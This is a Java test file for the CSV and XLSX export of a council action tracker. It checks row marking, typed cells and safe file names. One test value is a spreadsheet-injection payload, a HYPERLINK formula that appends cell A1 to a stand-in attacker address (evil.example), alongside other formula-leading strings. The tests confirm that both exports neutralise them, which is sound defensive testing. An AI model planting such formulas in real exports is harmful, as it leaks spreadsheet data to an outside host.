package uk.gov.middlesbrough.tracker.exporting;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

class ExportTests {

	private static final String HOSTILE = "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")";

	private static ExportTable table() {
		return new ExportTable("Actions: Newport/2026", List.of("Action", "Complete", "Change", "Due", "Commentary"))
			.row("Mini Police programme", 40, new BigDecimal("-3.5"), LocalDate.of(2027, 3, 31), HOSTILE)
			.row("Alley makeover", 100, 0, LocalDate.of(2022, 1, 31), "+1 more alley; @residents; -done")
			.row("Tab start", null, 2.25, null, "\tcmd");
	}

	@Test
	void marksOnlyTheRowsPickedInALastColumnAndLeavesATableWithoutThemAsItWas() {
		ExportTable marked = table().markedWhere("Illustrative", "Illustrative", List.of(true, false, true));
		assertThat(marked.headings()).containsExactly("Action", "Complete", "Change", "Due", "Commentary", "Illustrative");
		assertThat(marked.rows()).extracting(row -> row.get(5)).containsExactly("Illustrative", null, "Illustrative");
		assertThat(marked.rows().get(1).get(0)).isEqualTo("Alley makeover");

		ExportTable unmarked = table();
		assertThat(unmarked.markedWhere("Illustrative", "Illustrative", List.of(false, false, false))).isSameAs(unmarked);
		assertThat(unmarked.headings()).hasSize(5);
	}

	@Test
	void csvNeutralisesFormulaTextButKeepsNegativeNumbersAsNumbers() {
		String csv = new String(CsvExport.write(table()), StandardCharsets.UTF_8);
		assertThat(csv).startsWith("\uFEFFAction,Complete,Change,Due,Commentary\r\n");
		assertThat(csv).contains("Mini Police programme,40,-3.5,2027-03-31,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Click\"\")\"");
		assertThat(csv).contains("Alley makeover,100,0,2022-01-31,'+1 more alley; @residents; -done");
		assertThat(csv).contains("Tab start,,2.25,,'\tcmd");
	}

	@Test
	void xlsxHasAHeaderRowTypedCellsAndTheHostileTextNeutralised() throws IOException {
		byte[] xlsx = XlsxExport.write(table());
		try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
			assertThat(workbook.getFirstSheet().getName()).isEqualTo("Actions  Newport 2026");
			List<Row> rows = workbook.getFirstSheet().read();
			assertThat(rows.get(0).getCell(0).asString()).isEqualTo("Action");
			Row first = rows.get(1);
			assertThat(first.getCell(1).getType()).isEqualTo(CellType.NUMBER);
			assertThat(first.getCell(1).asNumber()).isEqualByComparingTo("40");
			assertThat(first.getCell(2).getType()).isEqualTo(CellType.NUMBER);
			assertThat(first.getCell(2).asNumber()).isEqualByComparingTo("-3.5");
			assertThat(first.getCell(3).getType()).isEqualTo(CellType.NUMBER);
			assertThat(first.getCell(3).asDate().toLocalDate()).isEqualTo(LocalDate.of(2027, 3, 31));
			assertThat(first.getCell(4).getType()).isEqualTo(CellType.STRING);
			assertThat(first.getCell(4).asString()).isEqualTo("'" + HOSTILE);
			assertThat(rows.get(3).getCell(4).asString()).isEqualTo("'\tcmd");
		}
		String sheetXml = entry(xlsx, "xl/worksheets/sheet1.xml");
		assertThat(sheetXml).contains("state=\"frozen\"").contains("ySplit=\"1\"");
	}

	@Test
	void refusesARowOfTheWrongWidth() {
		ExportTable table = new ExportTable("t", List.of("a", "b"));
		org.assertj.core.api.Assertions.assertThatThrownBy(() -> table.row("only one"))
			.isInstanceOf(IllegalArgumentException.class);
	}

	@Test
	void namesFilesAfterTheTable() {
		assertThat(ExportResponse.fileName("Actions: Newport/2026")).isEqualTo("actions-newport-2026");
	}

	private static String entry(byte[] zip, String name) throws IOException {
		java.nio.file.Path file = java.nio.file.Files.createTempFile("export", ".xlsx");
		try {
			java.nio.file.Files.write(file, zip);
			try (ZipFile archive = new ZipFile(file.toFile())) {
				ZipEntry entry = archive.getEntry(name);
				assertThat(entry).as(name + " in the workbook").isNotNull();
				return new String(archive.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
			}
		}
		finally {
			java.nio.file.Files.deleteIfExists(file);
		}
	}
}
